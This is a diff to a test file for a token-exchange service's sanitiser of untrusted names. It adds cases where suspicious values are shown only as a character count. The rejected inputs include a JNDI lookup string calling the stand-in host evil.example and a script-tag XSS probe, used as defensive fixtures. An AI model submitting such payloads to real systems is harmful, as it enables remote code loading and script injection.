@@ -1,5 +1,10 @@
 // What an operator is shown of a value that came from outside, and what never.
-import { told, toldList, toldSeconds } from '../../../../src/token-exchange/foundation/told-value.js';
+import {
+  told,
+  toldList,
+  toldName,
+  toldSeconds,
+} from '../../../../src/token-exchange/foundation/told-value.js';
 
 const TOKEN = `eyJhbGciOiJFUzI1NiJ9.${Buffer.from('{"sub":"somebody"}').toString('base64url')}.${'x'.repeat(86)}`;
 
@@ -78,6 +83,26 @@ it.each([
   [['kid'], 'a list'],
   [{ kid: 1 }, 'an object'],
 ])('[D77] of %j the kind is told', (value, kind) => expect(told(value)).toBe(kind));
+
+describe('[D77] a name that nobody vouches for', () => {
+  it.each([
+    'HS256',
+    'none',
+    'partner-2026/a=b:c~d.e_f+g',
+    'urn:ietf:params:oauth:token-type:access_token',
+    'text/plain; charset=utf-8',
+  ])('%j is shown', (value) => expect(toldName(value)).toBe(value));
+
+  it.each([
+    ['${jndi:ldap://evil.example/x}', '(29 characters that make no name)'],
+    ['<script>alert(1)</script>', '(25 characters that make no name)'],
+    ['two\nlines', '(9 characters that make no name)'],
+    ['somebody＠private.example', '(24 characters that make no name)'],
+    ['somebody@corp', '(13 characters that make no name)'],
+    ['eyAiYWxnIjoiRVMyNTYifQ.eyAiaXNzIjoiYSJ9.c2ln', '(not shown: it looks like a token)'],
+    [undefined, 'nothing'],
+  ])('%j is not: %s', (value, shown) => expect(toldName(value)).toBe(shown));
+});
 
 describe('[D77] a list', () => {
   it('has its values with commas between them', () => {
